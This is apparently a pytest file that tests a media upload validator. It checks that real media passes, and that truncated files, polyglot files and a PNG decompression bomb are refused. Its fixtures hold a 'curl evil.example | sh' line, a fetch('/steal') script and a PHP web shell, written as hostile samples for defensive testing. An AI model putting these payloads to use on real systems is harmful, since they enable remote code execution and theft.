"""Files are judged by what a parser of their format accepts, all the way through."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest

from bossbot.errors import BadMedia
from bossbot.fit import probe
from bossbot.fit.decoding import decodes
from bossbot.fit.files import MEDIA
from bossbot.media import sniff_file, validate
from bossbot.media.parse import walk
from bossbot.spec import Fit

KINDS = ["mp4", "mkv", "webm", "ogg", "mp3", "flac", "wav", "m4a",
         "png", "jpg", "gif", "webp", "bmp", "tif", "heif", "avif"]  # fmt: skip
NAMED = {"tif": "tiff", "heif": "heic"}  # what sniffing calls them
WALKED = [k for k in KINDS if k not in ("bmp", "tif", "flac")]  # these end where they say
APPENDED = {
    "html": b"<!DOCTYPE html><html><script>fetch('/steal')</script></html>\n",
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"payload" * 20,
    "script": b"#!/bin/sh\ncurl evil.example | sh\n",
}


def judge(path: Path, kind: str) -> None:
    """What a worker's check does: parse, then decode."""
    for checked in validate([path], cap=10**7, dest=path.parent):
        decodes(checked, kind, Fit())


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("kind", KINDS)
def test_every_real_file_passes_its_parser_and_its_decoder(
    samples: dict[str, bytes], tmp_path: Path, kind: str
) -> None:
    path = write(tmp_path, f"x.{kind}", samples[kind])
    assert sniff_file(path) == NAMED.get(kind, kind)
    walk(path, NAMED.get(kind, kind))
    decodes(path, NAMED.get(kind, kind), Fit())
    assert validate([path], cap=10**7, dest=tmp_path)


@pytest.mark.parametrize("kind", [k for k in KINDS if k in MEDIA])
def test_the_decode_check_of_audio_and_video_tells_what_a_probe_would(
    samples: dict[str, bytes], tmp_path: Path, kind: str
) -> None:
    path = write(tmp_path, f"x.{kind}", samples[kind])
    checked, probed = decodes(path, kind, Fit()), probe(path)
    assert checked is not None
    assert (checked.container, checked.streams) == (probed.container, probed.streams)
    assert abs((checked.duration or 0) - (probed.duration or 0)) < 0.1


@pytest.mark.parametrize("kind", WALKED)
@pytest.mark.parametrize("tail", list(APPENDED))
def test_media_followed_by_something_else_is_refused(
    samples: dict[str, bytes], tmp_path: Path, kind: str, tail: str
) -> None:
    path = write(tmp_path, f"x.{kind}", samples[kind] + APPENDED[tail])
    with pytest.raises(BadMedia):
        validate([path], cap=10**7, dest=tmp_path)


@pytest.mark.parametrize("kind", KINDS)
def test_a_truncated_file_is_refused(samples: dict[str, bytes], tmp_path: Path, kind: str) -> None:
    data = samples[kind]
    path = write(tmp_path, f"x.{kind}", data[: len(data) * 2 // 3])
    with pytest.raises(BadMedia):
        judge(path, NAMED.get(kind, kind))


@pytest.mark.parametrize(
    "data",
    [
        b"\0\0\0\x18ftypisom\0\0\0\0isomiso2" + b"<html><body>not a video</body></html>" * 9,
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + b"<?php system($_GET['c']); ?>",
        b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
        b"GIF89a\x01\0\x01\0\0\0\0" + b"<script>",
        b"\x1a\x45\xdf\xa3\x84\x42\x86\x81\x01" + b"PK\x03\x04" * 10,
        b"OggS\0\x02" + b"\0" * 20 + b"<html>",
        b"ID3\x04\0\0\0\0\0\0" + b"<html>",
    ],
    ids=["mp4-html", "jpeg-php", "png-zeros", "gif-script", "mkv-zip", "ogg-html", "id3-html"],
)
def test_a_file_that_only_starts_like_media_is_refused(tmp_path: Path, data: bytes) -> None:
    path = write(tmp_path, "x.bin", data)
    with pytest.raises(BadMedia):
        validate([path], cap=10**7, dest=tmp_path)


def chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def test_a_decompression_bomb_is_refused_before_it_is_decoded(tmp_path: Path) -> None:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)  # 3.6 gigapixels
    bomb = zlib.compress(b"\0" * 1_000_000)  # a megabyte of zeros, a kilobyte on the wire
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", bomb)
    path = write(tmp_path, "x.png", data + chunk(b"IEND", b""))
    walk(path, "png")  # well-formed: only its size is hostile
    with pytest.raises(BadMedia):
        decodes(path, "png", Fit())
